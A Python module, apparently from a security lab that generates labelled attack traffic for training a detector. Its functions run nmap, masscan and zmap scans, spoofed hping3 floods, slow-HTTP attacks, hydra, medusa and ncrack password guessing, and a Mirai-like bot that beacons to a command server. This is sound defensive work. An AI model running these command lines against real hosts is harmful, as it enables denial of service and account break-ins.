"""One function per attack: runs the real tool on an attacker's node and claims what it did."""
# ruff: noqa: PLR0913  (one keyword per property of a device or strength of an attack)

import json
import time
from collections.abc import Callable
from typing import Any

from model_training.lab.errors import LabError
from model_training.lab.frames import ICMP, TCP, UDP
from model_training.lab.household import CONTROL, FAR
from model_training.lab.labels import (
    ArpSweep,
    AttackClass,
    Claim,
    Flows,
    SpoofedFlood,
)
from model_training.lab.stage import PYTHON, Stage

Attack = Callable[..., list[Claim]]
_PROTOCOLS = {"syn": TCP, "udp": UDP, "icmp": ICMP}
_NMAP_SCANS = {
    "syn": "-sS",
    "connect": "-sT",
    "fin": "-sF",
    "xmas": "-sX",
    "null": "-sN",
    "ack": "-sA",
}


def common(
    stage: Stage,
    kind: tuple[AttackClass, str, str],
    attacker: str,
    victims: tuple[str, ...],
    start_ns: int,
) -> dict[str, Any]:
    """Return the fields that all claims share, `kind` being (class, sub, tool); the span ends now."""
    node = stage.nodes[attacker]
    attack_class, sub, tool = kind
    return {
        "attack_class": attack_class,
        "sub": sub,
        "tool": tool,
        "attacker": node.mac,
        "attacker_ip": node.ip,
        "victims": victims,
        "start_ns": start_ns,
        "end_ns": time.time_ns(),
    }


def intrude(stage: Stage, attacker: str, program: str, /, **job: Any) -> tuple[int, ...]:  # noqa: ANN401
    """Run one of the lab's own attack programs and return the local ports it used."""
    seed = f"{stage.household.seed}/{attacker}/{program}"
    text = json.dumps({"program": program, "seed": seed, **job})
    argv = [PYTHON, "-m", "model_training.lab.intruder"]
    printed = stage.run(attacker, argv, text=text, timeout_s=job.get("seconds", 60) + 60)
    return tuple(json.loads(printed))


def refuse_honest(stage: Stage, attacker: str, victim_ip: str, port: int) -> None:
    """Refuse an attack whose flows could not be told from the attacker's honest ones.

    Raises:
        LabError: The attacker speaks to that endpoint by itself.
    """
    if (victim_ip, port) in stage.household.honest_endpoints(attacker):
        message = f"{attacker} speaks to {victim_ip}:{port} by itself; choose another attacker"
        raise LabError(message)


def port_scan(
    stage: Stage,
    attacker: str,
    victim: str,
    *,
    kind: str = "syn",
    ports: str = "1-1000",
    rate: int = 200,
) -> list[Claim]:
    """Scan the TCP ports of one host with nmap."""
    start_ns, ip = time.time_ns(), stage.nodes[victim].ip
    argv = ["nmap", _NMAP_SCANS[kind], "-n", "-Pn", "-p", ports, "--max-rate", str(rate), ip]
    stage.run(attacker, argv)
    facts = common(stage, ("Scan", f"nmap_{kind}_scan", "nmap"), attacker, (ip,), start_ns)
    spared = stage.household.honest_endpoints(attacker)
    return [Flows(**facts, protocol=TCP, peers=(ip,), spared=spared)]


def version_scan(
    stage: Stage, attacker: str, victim: str, *, ports: str = "21,23,80,443,1883,9999"
) -> list[Claim]:
    """Ask what runs on open ports with nmap -sV."""
    start_ns, ip = time.time_ns(), stage.nodes[victim].ip
    stage.run(
        attacker, ["nmap", "-sV", "--version-light", "-n", "-Pn", "-p", ports, ip], timeout_s=120
    )
    facts = common(stage, ("Scan", "nmap_version_scan", "nmap"), attacker, (ip,), start_ns)
    return [Flows(**facts, protocol=TCP, peers=(ip,))]


def udp_scan(
    stage: Stage, attacker: str, victim: str, *, top_ports: int = 40, rate: int = 50
) -> list[Claim]:
    """Scan the UDP ports of one host with nmap."""
    start_ns, ip = time.time_ns(), stage.nodes[victim].ip
    argv = ["nmap", "-sU", "-n", "-Pn", "--top-ports", str(top_ports), "--max-retries", "1"]
    stage.run(attacker, [*argv, "--max-rate", str(rate), "--host-timeout", "25s", ip])
    facts = common(stage, ("Scan", "nmap_udp_scan", "nmap"), attacker, (ip,), start_ns)
    return [Flows(**facts, protocol=UDP, peers=(ip,))]


def host_sweep(
    stage: Stage, attacker: str, _victim: str, *, ports: str = "", rate: int = 60
) -> list[Claim]:
    """Look for every host of the network with nmap, and for some open ports where given."""
    start_ns, subnet = time.time_ns(), stage.network.subnet
    probe = ["-sS", "-p", ports] if ports else ["-sn"]
    stage.run(attacker, ["nmap", *probe, "-n", "--max-rate", str(rate), f"{subnet}.0/24"])
    everyone = tuple(f"{subnet}.{octet}" for octet in range(1, 255))
    facts = common(stage, ("Scan", "nmap_host_sweep", "nmap"), attacker, everyone, start_ns)
    spared = stage.household.honest_endpoints(attacker)
    return [ArpSweep(**facts), Flows(**facts, protocol=TCP, peers=everyone, spared=spared)]


def flood(
    stage: Stage,
    attacker: str,
    victim: str,
    *,
    kind: str = "syn",
    port: int = 80,
    rate: int = 800,
    seconds: float = 4.0,
    spoofed: bool = False,
    data_bytes: int = 0,
) -> list[Claim]:
    """Flood one host with hping3, bounded by count."""
    ip = stage.nodes[victim].ip
    refuse_honest(stage, attacker, ip, 0 if kind == "icmp" else port)
    start_ns = time.time_ns()
    mode = {"syn": ["-S", "-p", str(port)], "udp": ["--udp", "-p", str(port)], "icmp": ["--icmp"]}[
        kind
    ]
    argv = [
        "hping3",
        "-q",
        "-n",
        *mode,
        "-i",
        f"u{1_000_000 // rate}",
        "-c",
        str(int(rate * seconds)),
    ]
    argv += ["--rand-source"] if spoofed else []
    stage.run_for(attacker, [*argv, "-d", str(data_bytes), ip], seconds)
    sub = f"{kind}_flood{'_spoofed' if spoofed else ''}"
    facts = common(stage, ("DOS", sub, "hping3"), attacker, (ip,), start_ns)
    protocol = _PROTOCOLS[kind]
    if spoofed:
        return [SpoofedFlood(**facts, protocol=protocol)]
    return [
        Flows(**facts, protocol=protocol, peers=(ip,), ports=() if kind == "icmp" else (port,))
    ]


def wide_scan(
    stage: Stage,
    attacker: str,
    _victim: str,
    *,
    tool: str = "masscan",
    port: int = 3389,
    rate: int = 100,
    seconds: float = 10.0,
) -> list[Claim]:
    """Look for open ports all over the internet with masscan or zmap."""
    start_ns, size = time.time_ns(), int(rate * seconds)
    if tool == "masscan":
        argv = ["masscan", FAR, "-p", str(port), "--rate", str(rate), "--wait", "2"]
    else:
        argv = ["zmap", "-q", "-i", "eth0", "-p", str(port), "-r", str(rate), "-n", str(size)]
        argv += [
            "-c",
            "2",
            "-G",
            stage.nodes["router"].mac,
            "-o",
            "/dev/null",
            "--blacklist-file=/dev/null",
            FAR,
        ]
    stage.run_for(attacker, argv, seconds + 3)
    facts = common(stage, ("Scan", f"{tool}_wide_scan", tool), attacker, (FAR,), start_ns)
    return [Flows(**facts, protocol=TCP, ports=(port,))]


def http_dos(
    stage: Stage,
    attacker: str,
    victim: str,
    *,
    slow: bool = False,
    tool: str = "",
    workers: int = 8,
    pause_s: float = 0.02,
    seconds: float = 8.0,
) -> list[Claim]:
    """Flood a web server with requests, or hold its connections with slow ones.

    `tool` is how slowhttptest is to hold them: "H" by headers, "B" by bodies, "X" by slow reading.
    """
    ip = stage.nodes[victim].ip
    refuse_honest(stage, attacker, ip, 80)
    start_ns = time.time_ns()
    if tool:
        argv = ["slowhttptest", f"-{tool}", "-c", str(workers), "-r", "50", "-l", str(seconds)]
        argv += ["-i", str(max(1, round(pause_s))), "-u", f"http://{ip}/index.html", "-v", "0"]
        stage.run_for(
            attacker, [*argv, *(["-w", "64", "-y", "128"] if tool == "X" else [])], seconds
        )
    else:
        program = "slow_requests" if slow else "http_flood"
        job = {"target": ip, "workers": workers, "pause_s": pause_s, "seconds": seconds}
        intrude(stage, attacker, program, **job)
    sub = "slow_http" if slow or tool else "http_flood"
    by = "slowhttptest" if tool else "edgewarden-lab"
    facts = common(stage, ("DOS", sub, by), attacker, (ip,), start_ns)
    return [Flows(**facts, protocol=TCP, peers=(ip,), ports=(80,))]


def guess_passwords(
    stage: Stage,
    attacker: str,
    victim: str,
    *,
    service: str = "telnet",
    workers: int = 2,
    pause_s: float = 0.2,
    seconds: float = 10.0,
) -> list[Claim]:
    """Guess passwords at a login with the lab's own guesser."""
    port = {"telnet": 23, "http": 80}[service]
    ip = stage.nodes[victim].ip
    refuse_honest(stage, attacker, ip, port)
    start_ns = time.time_ns()
    job = {"target": ip, "workers": workers, "pause_s": pause_s, "seconds": seconds}
    intrude(stage, attacker, f"guess_{service}", **job)
    sub = f"{service}_bruteforce"
    facts = common(stage, ("BruteForce", sub, "edgewarden-lab"), attacker, (ip,), start_ns)
    return [Flows(**facts, protocol=TCP, peers=(ip,), ports=(port,))]


def crack(
    stage: Stage,
    attacker: str,
    victim: str,
    *,
    tool: str = "hydra",
    service: str = "telnet",
    tasks: int = 4,
    seconds: float = 12.0,
) -> list[Claim]:
    """Guess passwords at a login with hydra, medusa or ncrack."""
    port = {"telnet": 23, "http": 80, "ftp": 21}[service]
    ip = stage.nodes[victim].ip
    refuse_honest(stage, attacker, ip, port)
    words = stage.network.work_dir / "words"
    words.write_text("".join(f"pass{number * 37 % 1000}\n" for number in range(600)))
    start_ns = time.time_ns()
    argv = _CRACKERS[tool](ip, service, str(words), str(tasks))
    stage.run_for(attacker, argv, seconds)
    facts = common(stage, ("BruteForce", f"{service}_bruteforce", tool), attacker, (ip,), start_ns)
    return [Flows(**facts, protocol=TCP, peers=(ip,), ports=(port,))]


def _hydra(ip: str, service: str, words: str, tasks: str) -> list[str]:
    what = ["http-get", "/admin"] if service == "http" else [service]
    return ["hydra", "-I", "-l", "admin", "-P", words, "-t", tasks, ip, *what]


def _medusa(ip: str, service: str, words: str, tasks: str) -> list[str]:
    where = ["-m", "DIR:/admin", "-m", "AUTH:BASIC"] if service == "http" else []
    return ["medusa", "-h", ip, "-u", "admin", "-P", words, "-M", service, "-t", tasks, *where]


def _ncrack(ip: str, service: str, words: str, tasks: str) -> list[str]:
    limits = f"cl={tasks},CL={tasks}"
    where = f"{service}://{ip}" + (",path=/admin" if service == "http" else "")
    return ["ncrack", "--user", "admin", "-P", words, "-g", limits, where]


_CRACKERS: dict[str, Callable[[str, str, str, str], list[str]]] = {
    "hydra": _hydra,
    "medusa": _medusa,
    "ncrack": _ncrack,
}


def mirai(
    stage: Stage,
    attacker: str,
    victim: str,
    *,
    knocks_per_second: float = 20.0,
    near_share: float = 0.2,
    beacon_s: float = 2.0,
    reconnect: bool = False,
    control_port: int = 6667,
    logins: bool = True,
    seconds: float = 10.0,
) -> list[Claim]:
    """Run a Mirai-like bot: telnet scan, logins next door, a beacon to its command server."""
    node, router = stage.nodes[attacker], stage.nodes["router"]
    start_ns = time.time_ns()
    job: dict[str, Any] = {"knocks_per_second": knocks_per_second, "near_share": near_share}
    job |= {"beacon_s": beacon_s, "reconnect": reconnect, "seconds": seconds, "control": CONTROL}
    job |= {"control_port": control_port}
    job |= {"own_ip": node.ip, "subnet": stage.network.subnet, "resolver": router.ip}
    neighbours = [stage.nodes[victim].ip] if logins else []
    ports = intrude(stage, attacker, "bot", **job, neighbours=neighbours)
    victims = (stage.nodes[victim].ip, CONTROL)

    def facts(sub: str) -> dict[str, Any]:
        return common(stage, ("Botnet", sub, "edgewarden-lab"), attacker, victims, start_ns)

    honest = tuple(ip for ip, _ in stage.household.honest_endpoints(attacker))
    return [
        Flows(**facts("c2_beacon"), protocol=TCP, peers=(CONTROL,)),
        Flows(**facts("mirai_login"), protocol=TCP, ports=(23,), local_ports=(*ports, 0)),
        Flows(**facts("mirai_telnet_scan"), protocol=TCP, ports=(23, 2323)),
        Flows(**facts("c2_lookup"), protocol=UDP, ports=(53,), contents=b"\x0bbulletproof"),
        ArpSweep(**facts("mirai_scan_arp"), spared=(*honest, router.ip)),
    ]
